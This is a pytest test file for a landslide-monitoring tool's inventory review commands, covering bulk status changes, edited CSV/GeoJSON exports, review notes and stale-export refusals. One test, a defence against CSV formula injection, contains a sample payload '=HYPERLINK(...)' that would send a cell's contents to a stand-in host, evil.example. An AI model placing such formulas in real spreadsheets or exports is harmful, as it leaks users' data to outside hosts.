"""Reviewing many landslides in one command: `inventory confirm|dismiss|candidate ID...` and
`inventory review FILE`, an `inventory export` whose `status` column an operator edited."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd
import pytest

from monitor.cli import main
from monitor.config import MonitorConfig, load_config
from monitor.store.inventory import Inventory
from tests.ops.ops_fixtures import populate, write_config

ALERTS = """
alerts:
  webhooks:
    - {name: ops, url: "http://127.0.0.1:9/alerts", secret_env: OPS_REVIEW_TEST_SECRET}
"""


@pytest.fixture
def config(tmp_path: Path, untrained_manifest: Path) -> MonitorConfig:
    """Six landslides (fids 1-6), one webhook alert queued for each; fid 1 confirmed, fid 3
    dismissed (its alert withdrawn): 5 alerts pending."""
    config = load_config(write_config(tmp_path, untrained_manifest, ALERTS))
    assert populate(config) == 6
    return config


def _statuses(config: MonitorConfig) -> dict[int, str]:
    with Inventory(config.inventory.path, read_only=True) as inventory:
        frame = inventory.landslides()
    return dict(zip(frame["fid"].astype(int), frame["status"], strict=True))


def _pending_fids(config: MonitorConfig) -> list[int]:
    with Inventory(config.inventory.path) as inventory, inventory.outbox() as box:
        return sorted(int(row["landslide_fid"]) for row in box.rows("pending"))


def _args(config: MonitorConfig, *rest: str) -> list[str]:
    """``inventory ACTION --config F ARGS...`` of the configuration written in the test's folder."""
    config_file = config.inventory.path.parent / "monitor.yaml"
    return ["inventory", rest[0], "--config", str(config_file), *rest[1:]]


#: the statuses ``populate`` leaves, by fid
START = {
    1: "confirmed",
    2: "candidate",
    3: "dismissed",
    4: "candidate",
    5: "candidate",
    6: "candidate",
}


def test_several_ids_in_one_command(
    config: MonitorConfig, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _statuses(config) == START
    assert _pending_fids(config) == [1, 2, 4, 5, 6]
    with Inventory(config.inventory.path, read_only=True) as inventory:
        uid5 = str(inventory.get(5)["uid"])

    assert main(_args(config, "dismiss", "2", uid5.upper(), "6")) == 0
    out = capsys.readouterr().out
    assert "landslide 2: candidate -> dismissed" in out
    assert f"landslide {uid5.upper()}: candidate -> dismissed" in out
    assert "3 alert(s) of them still waiting in the outbox withdrawn" in out
    assert _statuses(config) == {**START, 2: "dismissed", 5: "dismissed", 6: "dismissed"}
    assert _pending_fids(config) == [1, 4]

    # unknown ids are all named, and nothing changes, not even the known ones before them
    assert main(_args(config, "confirm", "4", "999", "no-such-uid", "2")) == 2
    err = capsys.readouterr().err
    assert "no landslide with fid 999, uid 'no-such-uid'" in err and "nothing changed" in err
    assert _statuses(config) == {**START, 2: "dismissed", 5: "dismissed", 6: "dismissed"}

    assert main(_args(config, "candidate", "2", "5")) == 0
    assert "landslide 5: dismissed -> candidate" in capsys.readouterr().out
    assert _statuses(config) == {**START, 6: "dismissed"}


def _export(config: MonitorConfig, name: str) -> Path:
    path = config.inventory.path.parent / name
    assert main(_args(config, "export", str(path))) == 0
    return path


def _edit_csv(
    path: Path, statuses: dict[int, str], times: dict[int, str] | None = None
) -> list[dict[str, str]]:
    """The export at ``path`` with the ``status`` of the fids in ``statuses`` (and the
    ``status_changed_at`` of those in ``times``) changed, as a spreadsheet saves it; its rows."""
    with path.open(newline="", encoding="utf-8") as opened:
        rows = list(csv.DictReader(opened))
    for row in rows:
        row["status"] = statuses.get(int(row["fid"]), row["status"])
        row["status_changed_at"] = (times or {}).get(int(row["fid"]), row["status_changed_at"])
    with path.open("w", newline="", encoding="utf-8") as opened:
        writer = csv.DictWriter(opened, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return rows


def test_review_of_an_edited_csv_export(
    config: MonitorConfig, capsys: pytest.CaptureFixture[str]
) -> None:
    table = _export(config, "review.csv")
    capsys.readouterr()
    # fid 1 confirmed -> candidate, 2 -> confirmed, 4 and 5 -> dismissed; 3 and 6 as they were
    _edit_csv(table, {1: "candidate", 2: "confirmed", 4: "dismissed", 5: "Dismissed "})

    assert main(_args(config, "review", str(table), "--dry-run")) == 0
    out = capsys.readouterr().out
    assert "landslide 4 (row 5): candidate -> dismissed" in out
    assert (
        "dry run, nothing changed: would be 1 confirmed, 2 dismissed, 1 back to candidate, "
        "2 unchanged"
    ) in out
    assert _statuses(config) == START and _pending_fids(config) == [1, 2, 4, 5, 6]

    assert main(_args(config, "review", str(table))) == 0
    out = capsys.readouterr().out
    assert "1 confirmed, 2 dismissed, 1 back to candidate, 2 unchanged" in out
    assert "2 alert(s) of them still waiting in the outbox withdrawn" in out
    expected = {**START, 1: "candidate", 2: "confirmed", 4: "dismissed", 5: "dismissed"}
    assert _statuses(config) == expected
    assert _pending_fids(config) == [1, 2, 6]  # the dismissed ones' alerts withdrawn
    # the same file again: everything is as it says
    assert main(_args(config, "review", str(table))) == 0
    assert "0 confirmed, 0 dismissed, 0 back to candidate, 6 unchanged" in capsys.readouterr().out


def _notes(config: MonitorConfig) -> dict[int, str | None]:
    with Inventory(config.inventory.path, read_only=True) as inventory:
        frame = inventory.landslides()
    notes = [None if pd.isna(n) else str(n) for n in frame["review_note"]]
    return dict(zip(frame["fid"].astype(int), notes, strict=True))


def test_review_notes_from_the_command_line_and_from_a_review_file(
    config: MonitorConfig, capsys: pytest.CaptureFixture[str]
) -> None:
    """The reviewer's words on a landslide (why dismissed, what it is): `--note` with a decision,
    or a `review_note` column edited in an export; exported, and shown on the review map."""
    from monitor.ops.review_data import _popup_html

    assert main(_args(config, "dismiss", "4", "5", "--note", "  clear-cut,  edges  ")) == 0
    assert main(_args(config, "confirm", "2", "--note", "road cut <km 12>")) == 0
    assert _notes(config) == {1: None, 2: "road cut <km 12>", 3: None, 4: "clear-cut, edges",
                              5: "clear-cut, edges", 6: None}  # fmt: skip
    assert main(_args(config, "candidate", "5")) == 0  # no --note: the note stays
    assert main(_args(config, "dismiss", "4", "--note", "")) == 0  # '': cleared
    assert _notes(config)[4] is None and _notes(config)[5] == "clear-cut, edges"
    capsys.readouterr()
    table = _export(config, "review.csv")
    with table.open(newline="", encoding="utf-8") as opened:
        rows = list(csv.DictReader(opened))
    assert {int(r["fid"]): r["review_note"] for r in rows}[2] == "road cut <km 12>"
    # the file: fid 6 dismissed with a note, fid 1 a note alone, fid 5's cell emptied
    for row in rows:
        row["status"], row["review_note"] = {
            6: ("dismissed", "harvest"),
            1: (row["status"], "checked  on site"),
            5: (row["status"], ""),
        }.get(int(row["fid"]), (row["status"], row["review_note"]))  # fmt: skip
    with table.open("w", newline="", encoding="utf-8") as opened:
        writer = csv.DictWriter(opened, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    # found in review: a note added after the export, which the file's empty cell would erase
    assert main(_args(config, "dismiss", "3", "--note", "quarry")) == 0
    assert "landslide 3: already dismissed; review note set" in capsys.readouterr().out
    assert main(_args(config, "review", str(table), "--dry-run")) == 0
    assert "would be 0 confirmed, 1 dismissed, 0 back to candidate, 5 unchanged, 2 review " in (
        capsys.readouterr().out
    )
    assert _notes(config)[6] is None
    assert main(_args(config, "review", str(table))) == 0
    assert "0 confirmed, 1 dismissed, 0 back to candidate, 5 unchanged, 2 review note(s) " in (
        capsys.readouterr().out
    )
    # an empty cell clears no note (5's and 3's stay); `--note ''` does
    assert _notes(config) == {1: "checked on site", 2: "road cut <km 12>", 3: "quarry", 4: None,
                              5: "clear-cut, edges", 6: "harvest"}  # fmt: skip
    assert _statuses(config)[6] == "dismissed"
    # a note alone (status None) leaves the status as it is by then
    with Inventory(config.inventory.path) as inventory:
        (change,) = inventory.set_statuses([(6, None)], ["harvest, re-checked"])
        assert change.previous == "dismissed" and inventory.get(6)["status"] == "dismissed"
    with Inventory(config.inventory.path, read_only=True) as inventory:
        row = inventory.get(2)
    assert "<th>Review note</th><td>road cut &lt;km 12&gt;</td>" in _popup_html(
        row, None, False, None, None
    )
    assert "Review note" not in _popup_html({**row, "review_note": None}, None, False, None, None)


SCARP = "'-' marks the scarp"  # a note whose own quote comes before a formula's start


def test_a_note_a_spreadsheet_would_run_as_a_formula_is_exported_behind_a_quote(
    config: MonitorConfig, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found in a security walkthrough: a review note `=HYPERLINK(...)` (or +, -, @) went into
    the CSV export as it was, and a spreadsheet opening it ran it. Written behind a quote, it
    is read back by `inventory review` as it was; the GeoJSON, which no spreadsheet runs,
    keeps it as it is, and so do numbers such as a negative dVV."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert main(_args(config, "dismiss", "4", "--note", formula)) == 0
    assert main(_args(config, "confirm", "2", "--note=-2+3")) == 0
    assert main(_args(config, "confirm", "1", "--note", "'quoted' on purpose")) == 0
    # a note of a quote before a formula's start keeps its own quote (found in a review)
    assert main(_args(config, "confirm", "3", "--note", SCARP)) == 0
    capsys.readouterr()
    table = _export(config, "review.csv")
    with table.open(newline="", encoding="utf-8") as opened:
        rows = {int(r["fid"]): r for r in csv.DictReader(opened)}
    assert rows[4]["review_note"] == "'" + formula
    assert rows[2]["review_note"] == "'-2+3"
    assert rows[1]["review_note"] == "'quoted' on purpose"  # no formula: left as it is
    assert rows[3]["review_note"] == "'" + SCARP
    assert all(not r["dVV_mean"].startswith("'") for r in rows.values())
    geojson = json.loads(_export(config, "review.geojson").read_text())
    by_fid = {f["properties"]["fid"]: f["properties"] for f in geojson["features"]}
    assert by_fid[4]["review_note"] == formula
    # read back unchanged: no note changes
    assert main(_args(config, "review", str(table))) == 0
    assert "review note(s)" not in capsys.readouterr().out
    assert _notes(config)[4] == formula and _notes(config)[2] == "-2+3"
    assert _notes(config)[3] == SCARP
    # nor does a GeoJSON review file, which nothing quotes
    assert main(_args(config, "review", str(_export(config, "again.geojson")))) == 0
    assert "review note(s)" not in capsys.readouterr().out
    assert _notes(config)[3] == SCARP


def test_outlines_redrawn_in_a_gis_are_named_and_not_applied(
    config: MonitorConfig, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by a geological survey's walk: outlines redrawn in QGIS were dropped without a
    word (only the statuses are read). A copy saved in a projected CRS is no redrawing."""
    import geopandas as gpd
    from shapely import affinity

    path = _export(config, "review.geojson")
    frame = gpd.read_file(path)
    utm = frame.estimate_utm_crs()
    before = dict(zip(frame["fid"], frame.geometry.to_crs(utm).area, strict=True))
    stretched = affinity.scale(frame.geometry.iloc[1], xfact=1.5, yfact=1.0)  # fid 2, by half
    frame.loc[1, "geometry"] = stretched
    frame.loc[1, "status"] = "confirmed"
    edited = path.with_name("redrawn.geojson")
    frame.to_crs(utm).to_file(edited, driver="GeoJSON")
    capsys.readouterr()

    assert main(_args(config, "review", str(edited))) == 0
    out = capsys.readouterr().out
    assert out.splitlines()[:2] == [
        "landslide 2 (row 2): candidate -> confirmed",
        "note: 1 outline(s) differ from the inventory's (row(s) 2): a review file's statuses and "
        "notes are read, never its outlines; to train on outlines you drew, give the file to "
        "`dataset export --inventory` (docs/models.md, Train on your own inventory)",
    ]
    assert _statuses(config) == {**START, 2: "confirmed"}
    after = gpd.read_file(_export(config, "after.geojson"))
    areas = dict(zip(after["fid"], after.geometry.to_crs(utm).area, strict=True))
    assert areas == before  # not applied
    capsys.readouterr()
    assert main(_args(config, "review", str(path.with_name("after.geojson")), "--dry-run")) == 0
    assert "outline" not in capsys.readouterr().out  # an export as it was written


def test_review_of_a_geojson_export_refuses_a_bad_row_whole(
    config: MonitorConfig, capsys: pytest.CaptureFixture[str]
) -> None:
    path = _export(config, "review.geojson")
    document = json.loads(path.read_text())
    by_fid = {f["properties"]["fid"]: f["properties"] for f in document["features"]}
    uid4, uid2 = by_fid[4]["uid"], by_fid[2]["uid"]
    by_fid[2]["status"] = "confirmed"
    by_fid[6]["status"] = "dismissed"
    by_fid[4]["uid"] = "0f0f0f0f-0000-4000-8000-000000000000"  # feature 4: no such landslide
    path.write_text(json.dumps(document))
    capsys.readouterr()

    assert main(_args(config, "review", str(path))) == 2
    err = capsys.readouterr().err
    assert f"{path}, row 4, field 'uid': no landslide with uid '0f0f0f0f-" in err
    assert "nothing changed" in err
    assert _statuses(config) == START and _pending_fids(config) == [1, 2, 4, 5, 6]

    by_fid[4]["uid"] = by_fid[3]["uid"].upper()  # the uid of fid 3 twice, another status
    path.write_text(json.dumps(document))
    assert main(_args(config, "review", str(path))) == 2
    assert "row 4, field 'uid': the landslide of row 3 again" in capsys.readouterr().err

    by_fid[4]["uid"] = by_fid[3]["uid"]
    by_fid[4]["status"] = by_fid[3]["status"] = "false alarm"
    path.write_text(json.dumps(document))
    assert main(_args(config, "review", str(path))) == 2
    err = capsys.readouterr().err
    assert "row 3, field 'status': unknown status 'false alarm'" in err
    assert "row 4, field 'status'" in err
    assert _statuses(config) == START
    # found in a walkthrough: a uid the inventory lacks was named only once the file's own
    # errors were mended; now every bad row in one refusal, in the file's order
    by_fid[2]["uid"] = "0f0f0f0f-0000-4000-8000-000000000000"
    path.write_text(json.dumps(document))
    assert main(_args(config, "review", str(path))) == 2
    err = capsys.readouterr().err
    assert "refused, nothing changed (3 problem(s))" in err
    named = [
        line.split(", field")[0].split(", ")[-1] for line in err.splitlines() if "field" in line
    ]
    assert named == ["row 2", "row 3", "row 4"]
    assert "row 2, field 'uid': no landslide with uid '0f0f0f0f-" in err
    by_fid[2]["uid"] = uid2

    for feature in document["features"]:
        del feature["properties"]["status"]
    path.write_text(json.dumps(document))
    assert main(_args(config, "review", str(path))) == 2
    assert f"{path}, row 1, field 'status': no such column" in capsys.readouterr().err

    for fid, properties in by_fid.items():
        properties["status"] = START[fid]
    by_fid[4]["uid"] = None
    path.write_text(json.dumps(document))
    assert main(_args(config, "review", str(path))) == 2
    assert "row 4, field 'uid': empty" in capsys.readouterr().err
    assert _statuses(config) == START

    by_fid[4]["uid"] = uid4  # the file once more as edited, without the bad rows
    for fid, properties in by_fid.items():
        properties["status"] = {2: "confirmed", 6: "dismissed"}.get(fid, START[fid])
    path.write_text(json.dumps(document))
    assert main(_args(config, "review", str(path))) == 0
    assert "1 confirmed, 1 dismissed, 0 back to candidate, 4 unchanged" in capsys.readouterr().out
    assert _statuses(config) == {**START, 2: "confirmed", 6: "dismissed"}
    assert _pending_fids(config) == [1, 2, 4, 5]


def test_a_spreadsheet_s_csv_with_quoted_notes_and_renamed_columns(
    config: MonitorConfig, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by review: the delimiter sniffer, finding no quotes in the header, read a cell
    with doubled quotes ("") as two cells, shifting the columns after it; and a header
    ``Status`` or `` uid`` (a spreadsheet's edit) was "no such column". Rows of empty cells,
    which a spreadsheet leaves at a sheet's end, refused the whole file (found by a walkthrough):
    they are no decision, and skipped."""
    with Inventory(config.inventory.path, read_only=True) as inventory:
        uid2, uid4 = (str(inventory.get(fid)["uid"]) for fid in (2, 4))
    table = config.inventory.path.parent / "notes.csv"
    table.write_text(
        'note; Status ;UID\n"a ""road"" cut; checked";confirmed;' + uid2 + "\n"
        "plain;dismissed;" + uid4 + "\n;;\n ; ;\n",  # Excel's empty rows at the end: no decision
        encoding="utf-8",
    )
    assert main(_args(config, "review", str(table))) == 0
    assert "1 confirmed, 1 dismissed, 0 back to candidate, 0 unchanged" in capsys.readouterr().out
    assert _statuses(config) == {**START, 2: "confirmed", 4: "dismissed"}


def test_rows_are_spreadsheet_rows_and_a_second_status_column_is_refused(
    config: MonitorConfig, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found following docs/operations.md: a note with a line break moved every later row's
    number by one (rows were counted by line of the file); a column ``Status`` added beside
    ``status`` was read in its place without a word (both are 'status' once case is ignored),
    and every landslide was dismissed from the added column."""
    with Inventory(config.inventory.path, read_only=True) as inventory:
        uid2, uid4 = (str(inventory.get(fid)["uid"]) for fid in (2, 4))
    table = config.inventory.path.parent / "multiline.csv"
    table.write_text(
        f'uid,status,note\n{uid2},confirmed,"looks like a clear-cut\nchecked on orthophoto"\n'
        f"{uid4},confirmd,\n",
        encoding="utf-8",
    )
    assert main(_args(config, "review", str(table))) == 2
    assert "multiline.csv, row 3, field 'status': unknown status 'confirmd'" in (
        capsys.readouterr().err
    )
    doubled = config.inventory.path.parent / "doubled.csv"
    doubled.write_text(
        f"uid,status,Status\n{uid2},candidate,dismissed\n{uid4},candidate,dismissed\n",
        encoding="utf-8",
    )
    assert main(_args(config, "review", str(doubled))) == 2
    err = capsys.readouterr().err
    assert "columns 'status' and 'Status' are one column to this reader" in err
    assert _statuses(config) == START


def test_a_review_that_fails_midway_changes_nothing(
    config: MonitorConfig, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found by review: the tests of "nothing changed" refused unknown ids before the
    transaction opened; a failure after the first change (here the second dismissal's
    withdrawal of its alerts) must roll the first back too."""
    import monitor.store.inventory as inventory_module

    real = inventory_module.outbox.withdraw
    calls: list[int] = []

    def fails_the_second(*args: object, **kwargs: object) -> int:
        calls.append(1)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        return int(real(*args, **kwargs))  # type: ignore[arg-type]

    monkeypatch.setattr(inventory_module.outbox, "withdraw", fails_the_second)
    assert main(_args(config, "dismiss", "2", "4")) != 0
    capsys.readouterr()
    assert len(calls) == 2
    assert _statuses(config) == START  # landslide 2's dismissal rolled back with the failure
    assert _pending_fids(config) == [1, 2, 4, 5, 6]


def test_a_review_reports_what_its_transaction_found(
    config: MonitorConfig, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Found by review: the statuses were compared before the transaction, so a review made by
    another command in between was reported as the status it no longer was. The outcome now
    gives what each change replaced."""
    from monitor.ops.inventory_review import apply_review

    with Inventory(config.inventory.path) as inventory:
        uid1, uid2 = (str(inventory.get(fid)["uid"]) for fid in (1, 2))
        table = config.inventory.path.parent / "late.csv"
        table.write_text(f"uid,status\n{uid1},dismissed\n{uid2},confirmed\n", encoding="utf-8")
        stale = inventory.statuses()
        inventory.set_status(2, "confirmed")  # another operator's `inventory confirm 2`
        monkeypatch.setattr(Inventory, "statuses", lambda self: stale)
        outcome = apply_review(inventory, table)
    assert [(d.fid, d.previous, d.status) for d in outcome.decisions] == [
        (1, "confirmed", "dismissed")
    ]
    assert outcome.unchanged == 1  # landslide 2 was confirmed when the transaction ran


@pytest.mark.parametrize("suffix", [".csv", ".geojson"])
def test_an_old_export_does_not_quietly_undo_later_reviews(
    config: MonitorConfig, capsys: pytest.CaptureFixture[str], suffix: str
) -> None:
    """Found by a new user: an export applied after other reviews set every landslide back to
    the status it had when exported ("landslide 4: confirmed -> candidate"), rows the operator
    never edited included. A file that keeps the export's status_changed_at is now refused
    where it would undo a later review, unless --force."""
    table = config.inventory.path.parent / f"old{suffix}"
    assert main(_args(config, "export", str(table))) == 0
    assert main(_args(config, "confirm", "2")) == 0  # another operator, after the export
    assert main(_args(config, "dismiss", "4")) == 0
    capsys.readouterr()
    edits = {1: "dismissed", 2: "dismissed", 5: "confirmed"}  # 4 left as exported: candidate
    if suffix == ".csv":
        rows = _edit_csv(table, edits)
        number = {int(r["fid"]): i + 2 for i, r in enumerate(rows)}  # spreadsheet rows
    else:
        data = json.loads(table.read_text(encoding="utf-8"))
        for feature in data["features"]:
            props = feature["properties"]
            props["status"] = edits.get(props["fid"], props["status"])
        table.write_text(json.dumps(data), encoding="utf-8")
        number = {f["properties"]["fid"]: i + 1 for i, f in enumerate(data["features"])}
    before = _statuses(config)
    for dry_run in ([], ["--dry-run"]):
        assert main(_args(config, "review", str(table), *dry_run)) == 2
        err = " ".join(capsys.readouterr().err.split())
        assert "nothing changed (2 problem(s))" in err
        assert (
            f"row {number[2]}, field 'status': landslide 2 was set 'confirmed' at "
        ) in err and "(when it had never been reviewed); 'dismissed' would undo that" in err
        assert f"row {number[4]}, field 'status': landslide 4 was set 'dismissed' at " in err
        assert "'candidate' would undo that" in err
        assert "give --force to apply the file's statuses over the later reviews" in err
        assert _statuses(config) == before  # landslide 1, reviewed before the export: not named
        assert f"row {number[1]}," not in err
    assert main(_args(config, "review", str(table), "--force")) == 0
    assert _statuses(config) == {
        **START, 1: "dismissed", 2: "dismissed", 4: "candidate", 5: "confirmed"
    }  # fmt: skip


def test_a_status_time_a_spreadsheet_reformatted_is_warned_and_applied(
    config: MonitorConfig, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    """A spreadsheet that saves the export again may write its times in its own format: the
    check cannot tell those rows, so it says so and applies them."""
    with Inventory(config.inventory.path) as inventory:
        uid4 = str(inventory.get(4)["uid"])
    table = config.inventory.path.parent / "resaved.csv"
    table.write_text(
        f"uid,status,status_changed_at\n{uid4},confirmed,05/12/2026 08:37\n", encoding="utf-8"
    )
    assert main(_args(config, "dismiss", "4")) == 0
    with caplog.at_level("WARNING", logger="monitor.ops.inventory_review"):
        assert main(_args(config, "review", str(table))) == 0
    assert "1 row(s) hold a status_changed_at that is not an ISO 8601 time" in caplog.text
    assert _statuses(config)[4] == "confirmed"


def test_status_times_are_compared_at_the_precision_the_file_keeps(
    config: MonitorConfig, capsys: pytest.CaptureFixture[str]
) -> None:
    """A landslide reviewed before the export and again after it is refused by its times (the
    test above covers never-reviewed ones); a time a spreadsheet saved to the minute is the
    whole minute, not its first second (found in review: the operator's own edit was refused
    as undoing a review made 25 s "after" 09:12)."""
    import time

    assert main(_args(config, "confirm", "5")) == 0
    table = config.inventory.path.parent / "export.csv"
    assert main(_args(config, "export", str(table))) == 0
    time.sleep(1.1)  # the export keeps milliseconds: a review a second later is later
    assert main(_args(config, "candidate", "5")) == 0
    capsys.readouterr()
    rows = _edit_csv(table, {5: "dismissed"})
    exported = next(r["status_changed_at"] for r in rows if r["fid"] == "5")
    assert main(_args(config, "review", str(table))) == 2
    err = " ".join(capsys.readouterr().err.split())
    assert "landslide 5 was set 'candidate' at " in err
    assert f"(when its status dated from {exported}); 'dismissed' would undo that" in err
    # fid 1, confirmed before the export and not since, its time saved to the minute
    minute = next(r["status_changed_at"] for r in rows if r["fid"] == "1")[:16]
    assert len(minute) == 16  # YYYY-MM-DDTHH:MM: reviewed, and its seconds cut
    _edit_csv(table, {5: "candidate", 1: "dismissed"}, {1: minute})
    assert main(_args(config, "review", str(table))) == 0
    assert _statuses(config)[1] == "dismissed"


def test_a_file_of_another_suffix_is_refused_naming_every_accepted_one(tmp_path: Path) -> None:
    """Found on a GIS analyst's walk: a GeoPackage saved from the export was refused with
    "(.csv or .geojson)", though `.json` is read too."""
    from monitor.errors import BadInput
    from monitor.ops.inventory_review import read_review_file

    edited = tmp_path / "edited.gpkg"
    edited.write_bytes(b"")
    with pytest.raises(BadInput) as err:
        read_review_file(edited)
    assert str(err.value) == (
        f"{edited}: unknown suffix '.gpkg'; give an `inventory export` file (.geojson, .json, .csv)"
    )


def test_a_geojson_review_refused_as_stale_gives_both_times_alike(
    config: MonitorConfig, capsys: pytest.CaptureFixture[str]
) -> None:
    """Found in a walkthrough: GDAL reads a GeoJSON's status_changed_at as a time, and the
    refusal gave it as '2026-12-06 20:40:31.960000+00:00' beside the inventory's
    '2026-12-06T20:48:43.091Z'."""
    import re
    import time

    assert main(_args(config, "confirm", "5")) == 0
    path = _export(config, "review.geojson")
    document = json.loads(path.read_text())
    (five,) = [f["properties"] for f in document["features"] if f["properties"]["fid"] == 5]
    exported = five["status_changed_at"]
    time.sleep(1.1)  # the export keeps milliseconds: a review a second later is later
    assert main(_args(config, "candidate", "5")) == 0
    five["status"] = "dismissed"
    path.write_text(json.dumps(document))
    capsys.readouterr()
    assert main(_args(config, "review", str(path))) == 2
    err = " ".join(capsys.readouterr().err.split())
    stamp = r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z"
    assert re.search(
        rf"landslide 5 was set 'candidate' at {stamp}, after this file was exported \(when its "
        rf"status dated from {re.escape(exported)}\)",
        err,
    ), err
